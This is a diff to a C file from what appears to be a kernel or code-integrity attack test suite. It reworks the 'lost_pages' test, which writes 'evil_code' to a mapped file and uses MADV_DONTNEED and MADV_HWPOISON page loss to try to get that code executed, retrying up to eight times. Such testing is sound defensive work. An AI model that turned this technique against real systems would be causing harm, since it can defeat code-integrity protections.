@@ -5,9 +5,9 @@
  */
 #include "attack.h"
 
-ATTACK(lost_pages)
+static int lose_pages(void)
 {
-	int fd = opened(CODE, O_RDWR);
+	int fd = opened(CODE, O_RDWR), was_lost;
 	char *code, *other;
 
 	must(pwrite(fd, evil_code, sizeof(evil_code), 0), "pwrite");
@@ -19,10 +19,22 @@ ATTACK(lost_pages)
 	must(madvise(code, PAGE, MADV_DONTNEED), "MADV_DONTNEED");
 	fd = opened(CODE, O_RDONLY);
 	other = mapped(mmap(0, PAGE, PROT_READ, MAP_SHARED, fd, 0), "mmap");
+	close(fd);
 	if (*(volatile char *)other != (char)good_code[0])
 		absent("a cached page");
 	if (madvise(other, PAGE, MADV_HWPOISON) < 0)
 		absent("MADV_HWPOISON");
 	call(code);
+	was_lost = !memcmp(code, evil_code, sizeof(evil_code));
+	munmap(code, PAGE);
+	munmap(other, PAGE);
+	return was_lost;
+}
+
+ATTACK(lost_pages)
+{
+	/* Where the kernel was faster, it was written back already. */
+	for (int i = 0; i < 8 && !lose_pages(); i++)
+		;
 	return 0;
 }
